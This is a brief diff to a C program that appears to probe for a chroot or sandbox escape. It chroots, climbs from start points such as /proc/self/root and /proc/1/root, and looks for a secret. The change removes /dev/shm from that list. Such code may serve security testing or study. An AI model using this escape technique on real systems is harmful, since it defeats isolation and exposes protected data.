@@ -34,7 +34,7 @@ int main(void) {
     climb();
     if (again && chroot(".")) return 1;
     look(secret);
-    const char *starts[] = {"/", "/proc/self/cwd", "/proc/self/root", "/proc/1/cwd", "/proc/1/root", "/usr", "/dev/shm"};
+    const char *starts[] = {"/", "/proc/self/cwd", "/proc/self/root", "/proc/1/cwd", "/proc/1/root", "/usr"};
     for (size_t i = 0; i < sizeof starts / sizeof *starts; i++) {
         if (chdir(starts[i])) continue;
         climb();
